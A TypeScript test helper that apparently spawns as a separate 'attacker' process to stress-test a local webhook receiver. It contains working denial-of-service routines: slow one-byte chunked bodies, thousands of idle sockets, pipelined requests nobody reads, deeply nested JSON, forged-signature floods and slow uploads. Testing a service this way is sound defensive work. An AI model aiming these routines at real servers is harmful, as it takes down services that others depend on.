/**
 * An attacker as a process of its own: `node attacker.ts NAME URL SECONDS [KEY]`. Tells its parent at the end what it did, and
 * which genuine deliveries were acknowledged on the way.
 */
import { randomUUID } from 'node:crypto'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { eventBody, post, signedHeaders } from './deliveries.ts'

export interface Report {
  readonly did: string
  /** Ids of genuine deliveries that were part of the attack: those sent, and those answered 2xx. */
  readonly sent: readonly string[]
  readonly acknowledged: readonly string[]
}

const [name = '', address = '', seconds = '0', key = ''] = process.argv.slice(2)
const url = new URL(address)
const end = Date.now() + Number(seconds) * 1000
const on = () => Date.now() < end
const megabytes = (bytes: number) => `${Math.round(bytes / 1e6)} MB`

/** Runs so many at a time, each again and again until the time is over. */
async function loops(count: number, step: () => Promise<unknown>): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async () => {
      while (on()) await step()
    }),
  )
}

async function open(): Promise<Socket | undefined> {
  const socket = connect({ host: url.hostname, port: Number(url.port), allowHalfOpen: true })
  socket.on('error', () => undefined)
  socket.resume()
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
  if (!socket.destroyed) return socket
  await sleep(20)
  return undefined
}

/** Stays as long as it may: until the other side destroys it or the time is over. */
async function hold(socket: Socket): Promise<void> {
  while (on() && !socket.destroyed) {
    // What is half open shows only when it is written to.
    if (socket.readableEnded) socket.destroy()
    else await sleep(100)
  }
  socket.destroy()
}

/** Bodies of 1 MiB less one byte in chunks of one byte, which never end. */
async function oneByteChunks(head: string): Promise<Report> {
  const chunks = 10_000
  const piece = Buffer.from('1\r\nx\r\n'.repeat(chunks))
  const connections = 30
  const most = 600e6
  let wire = 0
  await loops(connections, async () => {
    const socket = await open()
    if (socket === undefined) return
    socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`)
    for (
      let sent = 0;
      sent + chunks < 1024 * 1024 && on() && !socket.destroyed && wire < most;
      sent += chunks
    ) {
      wire += piece.length
      if (!socket.write(piece)) while (socket.writableNeedDrain && on() && !socket.destroyed) await sleep(5)
    }
    await hold(socket)
  })
  return { did: `${connections} at a time, ${megabytes(wire)} on the wire`, sent: [], acknowledged: [] }
}

async function silentSockets(): Promise<Report> {
  const sockets = 4100
  let opened = 0
  await loops(sockets, async () => {
    const socket = await open()
    if (socket === undefined) return
    opened++
    if (opened % 2 === 0) socket.write('POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Nev')
    await hold(socket)
    // Opening is what this machine pays for, too.
    await sleep(500)
  })
  return { did: `${sockets} at a time, ${opened} opened`, sent: [], acknowledged: [] }
}

/** Requests that do not wait for the answers to those before them, which nobody reads. */
async function pipelined(): Promise<Report> {
  const one = 'POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 2\r\n\r\n{}'
  const piece = Buffer.from(one.repeat(200))
  const connections = 50
  let opened = 0
  await loops(connections, async () => {
    const socket = await open()
    if (socket === undefined) return
    opened++
    socket.pause()
    while (on() && !socket.destroyed) {
      if (!socket.write(piece)) while (socket.writableNeedDrain && on() && !socket.destroyed) await sleep(5)
    }
    await hold(socket)
    await sleep(50)
  })
  return { did: `${connections} at a time, ${opened} opened`, sent: [], acknowledged: [] }
}

async function forge(body: string): Promise<void> {
  const headers = { ...signedHeaders('evt_forged', body), 'x-ls-webhook-signature': '0'.repeat(64) }
  await post(address, 'evt_forged', body, headers)
}

async function nestedBodies(): Promise<Report> {
  const group = `${'['.repeat(400)}0${',0'.repeat(600)}${']'.repeat(400)},`
  const body = `[${group.repeat(Math.floor((1024 * 1024 - 4) / group.length))}0]`
  let count = 0
  await loops(8, async () => {
    await forge(body)
    count++
  })
  return { did: `8 at a time, ${count} bodies of 1 MiB`, sent: [], acknowledged: [] }
}

/** Forged bodies of 1 MB, and genuine ones of 20 KB: together more than an inbox keeps. */
async function flood(): Promise<Report> {
  const body = eventBody('evt_forged', 1_000_000)
  const most = { forged: 1000, genuine: 20_000 }
  const sent: string[] = []
  const acknowledged: string[] = []
  let forged = 0
  const forging = loops(4, async () => {
    if (forged >= most.forged) return sleep(100)
    forged++
    await forge(body)
  })
  const delivering = loops(16, async () => {
    if (sent.length >= most.genuine) return sleep(100)
    const id = `evt_${randomUUID()}`
    sent.push(id)
    const status = (await post(address, id, eventBody(id, 20_000))) ?? 0
    if (status >= 200 && status < 300) acknowledged.push(id)
    else await sleep(50)
  })
  await Promise.all([forging, delivering])
  return { did: `${forged} forged of 1 MB, ${sent.length} genuine of 20 KB`, sent, acknowledged }
}

/** Genuine deliveries to a path where the target answers in chunks of one byte. */
async function drippedAnswers(): Promise<Report> {
  const sent: string[] = []
  await loops(10, async () => {
    const id = `evt_${randomUUID()}`
    sent.push(id)
    await post(`${address}drip`, id, eventBody(id))
  })
  return { did: `10 at a time, ${sent.length} answers of 6 MB on the wire`, sent: [], acknowledged: [] }
}

const uploadHead = [
  'POST /v3/statements/extract HTTP/1.1',
  `Host: ${url.host}`,
  `Authorization: Bearer ${key}`,
  'X-LS-Client-Id: cli_demo',
  'Content-Type: multipart/form-data; boundary=x',
  '',
].join('\r\n')

const attacks: Readonly<Record<string, () => Promise<Report>>> = {
  oneByteChunks: () => oneByteChunks('POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n'),
  silentSockets,
  pipelined,
  nestedBodies,
  flood,
  drippedAnswers,
  uploads: () => oneByteChunks(uploadHead),
}

const report = await attacks[name]?.()
process.send?.(report, () => process.exit())
